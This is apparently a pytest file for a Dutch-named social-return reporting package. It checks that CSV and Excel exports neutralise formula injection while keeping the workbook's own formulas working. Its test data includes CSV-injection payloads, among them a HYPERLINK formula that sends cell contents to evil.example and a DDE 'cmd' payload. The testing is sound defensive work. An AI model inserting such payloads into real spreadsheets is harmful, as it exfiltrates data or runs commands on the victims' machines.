"""Exports never carry a runnable formula from user text (OWASP CSV injection); the value map's own formulas work."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from impactlab import load_model, value
from impactlab.exports import FORMULA_TRIGGERS, SafeCsvWriter, safe_cell
from impactlab.reports import build_report, render_appendix, render_xlsx

ROOT = Path(__file__).resolve().parents[1]
BUURT = ROOT / "examples" / "buurtcirkels.yaml"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
formulas = pytest.importorskip("formulas")


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    safe = safe_cell(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert safe == text or safe == "'" + text  # nothing lost: the apostrophe is the only change
    assert (safe != text) == text.startswith(FORMULA_TRIGGERS)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_stay_numbers(number) -> None:
    assert safe_cell(number) is number


def test_csv_writer_neutralises_every_cell_header_included() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out, fieldnames=["=key", "value"])
    writer.writeheader()
    writer.writerows([{"=key": text, "value": -3} for text in HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["'=key", "value"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"-3"}  # a negative number is a number, not text


@pytest.fixture(scope="module")
def hostile_model():
    model = load_model(BUURT)
    model.stakeholders[0].name = HOSTILE[0]
    model.outcomes[0].description = HOSTILE[1]
    model.outcomes[0].indicator = HOSTILE[3]
    return model


def test_value_map_text_is_inert_and_its_formulas_still_recompute(hostile_model, tmp_path: Path) -> None:
    layout = render_xlsx(hostile_model, tmp_path / "v.xlsx", lang="en")
    book = openpyxl.load_workbook(layout.path)
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    formulas_written = [t for t in texts if t.startswith("=")]
    assert formulas_written, "the value map keeps its own formulas"
    for text in formulas_written:  # only our own formulas: cell references and functions, no user text
        assert "HYPERLINK" not in text and "cmd" not in text
    for hostile in (HOSTILE[0], HOSTILE[1], HOSTILE[3]):
        assert "'" + hostile in texts
        assert hostile not in texts
    # the workbook still computes what the engine computes
    model = formulas.ExcelModel().loads(str(layout.path)).finish()
    result = value(hostile_model)

    def key(address: str) -> str:
        sheet, cell = address.rsplit("!", 1)
        return f"'[{layout.path.name}]{sheet.strip(chr(39)).upper()}'!{cell.replace('$', '')}"

    solution = model.calculate(outputs=[key(layout.ratio), key(layout.total_pv)])
    got = [float(solution[key(a)].value[0][0]) for a in (layout.ratio, layout.total_pv)]
    np.testing.assert_allclose(got, [result.sroi_ratio, result.present_value], rtol=1e-9)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_appendix_csv_is_inert(hostile_model, tmp_path: Path) -> None:
    doc = build_report(hostile_model, lang="en", draws=500, seed=1, date="2025-06-01")
    csv_path, _json = render_appendix(doc, tmp_path / "r")
    cells = [cell for row in csv.reader(csv_path.open(encoding="utf-8")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)]
    assert any(HOSTILE[1] in c for c in cells), "the outcome's name is in the appendix, made inert"
